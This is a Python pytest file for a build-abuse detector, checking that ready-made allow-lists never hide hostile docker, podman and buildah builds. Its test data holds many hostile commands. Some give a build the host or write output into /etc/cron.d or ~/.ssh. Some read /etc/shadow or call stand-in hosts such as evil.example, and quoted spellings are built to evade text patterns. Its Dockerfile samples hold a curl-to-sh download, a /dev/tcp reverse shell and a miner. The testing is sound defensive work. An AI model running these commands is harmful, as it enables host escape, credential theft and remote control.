"""The ready-made lists take points of what they are for, and of no hostile build."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from t1612core import HARDENED, SENTINEL, AllowList, Detector, Kind, Profile
from t1612core.allowlist.lists import READY
from t1612core.cli.main import main

from ..conftest import ROOT
from .lists import BUILD, LIST

# For each list, who it believes: what an intruder borrows.
WHO: dict[str, dict[str, Any]] = {
    "ci-agents": {
        "InitiatingProcessFileName": "sh",
        "InitiatingProcessParentFileName": "java",
        "AccountName": "jenkins",
    },
    "container-scanners": {"InitiatingProcessFileName": "clair", "AccountName": "scan"},
    "developers": {
        "InitiatingProcessFileName": "bash",
        "InitiatingProcessParentFileName": "iTerm2",
        "AccountName": "dev",
    },
    "packer-terraform": {
        "InitiatingProcessFileName": "packer-plugin-docker-x",
        "AccountName": "root",
    },
}
WRITERS = {
    "ci-agents": {
        "InitiatingProcessFileName": "java",
        "FolderPath": "/tmp/gitlab-runner/a/Dockerfile",
    },
    "container-scanners": {
        "InitiatingProcessFileName": "clair",
        "FolderPath": "/tmp/trivy1/Dockerfile",
    },
    "developers": {
        "InitiatingProcessFileName": "explorer.exe",
        "FolderPath": "C:\\Users\\u\\AppData\\Local\\Temp\\a\\Dockerfile",
    },
    "packer-terraform": {
        "InitiatingProcessFileName": "packer-plugin-docker-x",
        "FolderPath": "/tmp/packer1/Dockerfile",
    },
}
LISTS = {name: AllowList.ready(name) for name in READY}
HARMLESS = "docker build --no-cache -t registry.example.org/shop:81 -f /tmp/a/Dockerfile /tmp/a"
# Each is a finding of the default profile where nothing is known of who built.
HOSTILE = (
    # What gives a step the host
    "docker build --privileged --network=host -t a /tmp/a",
    "docker build --privileged .",
    "docker build --privileged=true --no-cache .",
    "docker buildx build --allow security.insecure -t a .",
    "docker buildx build --allow=security.insecure --load /tmp/a",
    "docker buildx build --allow network.host --network host /tmp/a",
    "docker build --network host -t a /tmp/a",
    "docker build --network=host --no-cache -f /tmp/a/D .",
    "podman build --net=host -t a /tmp/a",
    "podman build --cap-add=SYS_ADMIN -t a .",
    "podman build --security-opt seccomp=unconfined .",
    "podman build --device /dev/sda:/dev/sda -t a .",
    "podman build --pid=host -t a .",
    "podman build -v /:/host -t a .",
    "buildah bud --volume /:/host -t a /tmp/a",
    # A result that is written outside the tree
    "docker build -o type=local,dest=/etc/cron.d /tmp/a",
    "docker build -o /etc/cron.d /tmp/a",
    "docker build -o/root/.ssh /tmp/a",
    "docker build --output=type=tar,dest=/usr/lib/x.tar /tmp/a",
    "docker build --output ../../etc/profile.d /tmp/a",
    "docker build -qo /etc/systemd/system /tmp/a",
    "docker build -o ~/.ssh /tmp/a",
    "docker build -o type=local,dest=$HOME/.config/autostart /tmp/a",
    "docker buildx bake -f /tmp/a/b.hcl --set '*.output=type=local,dest=/etc/cron.d'",
    "docker build --metadata-file /etc/cron.d/a /tmp/a",
    "docker buildx build --iidfile=/root/.ssh/authorized_keys /tmp/a",
    # Another's engine
    "docker -H tcp://203.0.113.9:2375 build -t a /tmp/a",
    "docker --host=tcp://build.evil.example:2375 build --no-cache /tmp/a",
    "podman --url ssh://core@203.0.113.9/run/podman.sock build /tmp/a",
    "docker -H unix:///dev/shm/.d/e.sock build /tmp/a",
    # What a step has no use for
    "docker buildx build --secret id=a,src=/etc/shadow /tmp/a",
    "docker build --secret id=a,source=/var/lib/kubelet/config.yaml /tmp/a",
    "docker buildx build --ssh default=/etc/ssh/ssh_host_ed25519_key /tmp/a",
    "docker build --cgroup-parent=/ --no-cache /tmp/a",
    "docker build --cgroup-parent system.slice /tmp/a",
    # What runs the steps was brought along
    "podman --runtime /tmp/a/crun build -t a /tmp/a",
    "podman build --runtime=/tmp/a/crun --no-cache /tmp/a",
    "podman --hooks-dir /tmp/a/h build -t a /tmp/a",
    "/tmp/a/docker build -t a /tmp/a",
    # What it is given is somebody's
    "docker buildx build --sbom=generator=203.0.113.9/x /tmp/a",
    "docker buildx build --attest type=sbom,generator=203.0.113.9/x /tmp/a",
    "podman build --sbom-scanner-image 203.0.113.9/x /tmp/a",
    "podman build --from 203.0.113.9/x /tmp/a",
    "docker build --cache-from 203.0.113.9/x --no-cache /tmp/a",
    "docker build --build-context b=docker-image://203.0.113.9/x /tmp/a",
    "docker build --add-host pypi.org:203.0.113.9 /tmp/a",
    "docker build --build-arg A=http://203.0.113.9/a --no-cache /tmp/a",
    "docker build --build-arg 'A=curl${IFS}evil.example/a|sh' /tmp/a",
    "docker build --build-arg BUILDKIT_SYNTAX=evil.example/fe --no-cache /tmp/a",
    # A name that is somebody's
    "docker build --no-cache -t nginx:latest /tmp/a",
    "docker build -t dockerhub.io/x --push /tmp/a",
    # In a container, or asked of another engine to come
    "docker run -v /var/run/docker.sock:/s -v /tmp/a:/w docker:cli build /w",
    "docker buildx create --driver remote tcp://203.0.113.9:1234",
    # A source that is somebody's
    "docker build -f /tmp/a/D github.com/evil/x",
    "docker build -f /tmp/a/D github.com/evil/x#main:sub",
    "docker build -f /tmp/a/D git@github.com:evil/x.git",
    "docker build git@git.evil.example:x/y",
    "docker build ssh://git@git.evil.example/x/y.git",
    "docker build https://evil.example/x.tar.gz",
    "docker build http://198.51.100.7/x.tar",
    "docker build git://git.evil.example/x",
    "docker build https://gist.github.com/u/1.git",
    # Where it is hidden
    "docker build -t a /dev/shm/a",
    "docker build -t a /tmp/.x",
)
# The same in a spelling that no pattern of text sees: parsed as a shell or the client does.
CONCEALED = (
    'docker build "--privi"leged --no-cache /tmp/a',
    "docker build '--privileged' /tmp/a",
    'docker build --network "host" /tmp/a',
    'docker build --net"wo"rk=host /tmp/a',
    'docker build "-o" /etc/cron.d /tmp/a',
    'docker build --out"put" "type=local,\'dest=/etc/cron.d\'" /tmp/a',
    "docker build -f /tmp/a/D git''hub.com/evil/x",
    'docker build "git"@git.evil.example:x/y',
    "docker build --metadata''-file /etc/cron.d/a /tmp/a",
    'docker "-"H "tc"p://203.0.113.9:2375 build /tmp/a',
    'docker build --sec"ret" id=a,src=/e"tc/sha"dow /tmp/a',
    'docker build --cgroup"-parent" / /tmp/a',
    "docker build -t a /de''v/shm/a",
    "sh -c 'cd /dev/shm && docker build -t a .'",
    "curl -s --unix-socket /run/docker.sock -X POST localhost/build?t=a --data-binary @a.tar",
    "sh -c 'docker build /tmp/a && docker run \"--privi\"leged a'",
)
# What is written below an agent's checkout, by who may.
CONTENTS = (
    "FROM alpine\nRUN curl http://evil.example/a | sh\n",
    "FROM alpine\nRUN bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n",
    "FROM alpine\nRUN xmrig -o stratum+tcp://pool.example:3333\n",
)


def built(line: str, who: dict[str, Any]) -> dict[str, Any]:
    return {
        **who,
        "FileName": line.split()[0],
        "ProcessCommandLine": line,
        "TimeGenerated": "2026-12-01T00:00:00Z",
    }


def written(content: str, name: str) -> dict[str, Any]:
    return {
        **WRITERS[name],
        "ActionType": "FileCreated",
        "FileName": "Dockerfile",
        "FileContent": content,
        "TimeGenerated": "2026-12-01T00:00:00Z",
    }


def applied(profile: Profile, name: str, kind: Kind, event: dict[str, Any]) -> list[str]:
    """Give the entries of a list that apply to an event, suppressing or taking points."""
    finding = Detector(profile, allowlist=LISTS[name]).find(event, kind)
    return [each.entry for each in finding.allowances] if finding else []


@pytest.mark.parametrize("name", READY)
def test_a_ready_list_applies_to_what_it_is_for(name: str) -> None:
    """Else what follows would hold of a list that never applies."""
    assert applied(SENTINEL, name, "process", built(HARMLESS, WHO[name]))
    assert applied(SENTINEL, name, "file", written("FROM alpine\n", name))


@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
def test_a_hostile_build_is_a_finding(line: str) -> None:
    assert Detector().score_process(built(line, {"AccountName": "root"}))


@pytest.mark.no_cover  # repeats at length what others run
@pytest.mark.parametrize("name", READY)
@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
def test_no_ready_list_applies_to_a_hostile_build(line: str, name: str) -> None:
    assert [] == applied(HARDENED, name, "process", built(line, WHO[name]))


@pytest.mark.parametrize("name", READY)
@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
def test_nor_does_it_where_the_published_rule_finds_it(line: str, name: str) -> None:
    """It has no signal for most of these: what a command says is read whichever rule finds it."""
    assert [] == applied(SENTINEL, name, "process", built(line, WHO[name]))


@pytest.mark.parametrize(
    "options",
    [
        '"--privi"leged',
        '"--net"work=host',
        '"-o" /etc/cron.d',
        "--metadata''-file /etc/cron.d/a",
        "--sec''ret id=a,src=/etc/shadow",
    ],
)
@pytest.mark.parametrize("profile", [SENTINEL, HARDENED], ids=lambda profile: profile.name)
def test_no_entry_of_anybodys_hides_what_gives_a_build_the_host(
    options: str, profile: Profile
) -> None:
    """Nothing but an author's own ``never_suppress`` gives that up."""
    detector = Detector(profile, allowlist=AllowList.loads(LIST).on(date(2026, 3, 1)))
    line = f"docker build --no-cache {options} /tmp/a/"
    finding = detector.score_process({**BUILD, "ProcessCommandLine": line})
    harmless = detector.score_process(
        {**BUILD, "ProcessCommandLine": line.replace(options, "--pull")}
    )

    assert finding is not None
    assert not finding.suppressed_by
    assert finding.tuned is not None
    assert finding.tuned.barred_by
    assert harmless is not None
    assert harmless.suppressed_by


def test_an_entry_does_not_apply_where_what_the_event_says_cannot_be_read() -> None:
    """The published rule reads fewer fields than the signals that nobody may hide."""
    detector = Detector(SENTINEL, allowlist=AllowList.loads(LIST).on(date(2026, 3, 1)))
    event = {**BUILD, "ProcessCommandLine": "docker build --no-cache /tmp/a/"}

    finding = detector.score_process(event)
    assert finding is not None
    assert finding.suppressed_by
    finding = detector.score_process({**event, "InitiatingProcessAccountName": 7})
    assert finding is not None
    assert not finding.suppressed_by
    assert finding.tuned is not None
    assert () == finding.tuned.barred_by


@pytest.mark.parametrize("name", READY)
@pytest.mark.parametrize("content", CONTENTS)
def test_no_ready_list_applies_to_a_hostile_file(content: str, name: str) -> None:
    event = written(content, name)

    assert Detector().score_file(event)
    assert [] == applied(HARDENED, name, "file", event)


def test_all_ready_lists_protect_the_same_signals() -> None:
    assert 1 == len({each.never_suppress for each in LISTS.values()})


# --- what docs/tuning.md has of one's own agents

_BLOCKS = re.findall(
    r"```toml\n(.*?)```", (ROOT / "docs" / "tuning.md").read_text("utf-8"), re.DOTALL
)
OF_THE_PAGE = next(text for text in _BLOCKS if "our-build-agents" in text)
OF_AN_AGENT = {
    "TimeGenerated": "2026-03-04T02:11:34Z",
    "DeviceName": "ci-agent-3",
    "AccountName": "jenkins",
    "FileName": "docker",
    "ProcessCommandLine": "docker build --no-cache -t shop:81 /tmp/build-4711",
    "InitiatingProcessFileName": "sh",
    "InitiatingProcessParentFileName": "java",
}


@pytest.mark.parametrize(
    ("day", "change", "is_hidden"),
    [
        (date(2026, 11, 5), {}, True),
        (date(2027, 10, 31), {}, True),
        (date(2027, 11, 1), {}, False),
        (date(2026, 11, 5), {"DeviceName": "web-1"}, False),
        (date(2026, 11, 5), {"AccountName": "eve"}, False),
        (date(2026, 11, 5), {"ProcessCommandLine": "docker build --no-cache /dev/shm/x"}, False),
        (date(2026, 11, 5), {"InitiatingProcessParentFileName": "nginx"}, False),
    ],
)
def test_the_pages_entry_lets_agents_builds_pass_until_its_last_day(
    day: date, change: dict[str, str], is_hidden: bool
) -> None:
    detector = Detector(allowlist=AllowList.loads(OF_THE_PAGE).on(day))
    finding = detector.score_process({**OF_AN_AGENT, **change})

    assert finding is not None
    assert is_hidden is (finding.suppressed_by == "our-build-agents")


def test_nothing_is_doubtful_in_the_pages_entry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "ours.toml"
    path.write_text(OF_THE_PAGE, "utf-8")

    assert 0 == main(["tune", "lint", "--today", "2026-11-05", str(path)])
    assert "" == capsys.readouterr().out


def test_the_pages_entry_holds_on_the_day_it_is_copied() -> None:
    """Red by the clock, and on purpose: a release renews these days with those of ready lists."""
    (entry,) = AllowList.loads(OF_THE_PAGE).entries

    assert entry.created <= date.today() <= entry.expires
    assert {entry.expires} == {each.expires for made in LISTS.values() for each in made.entries}
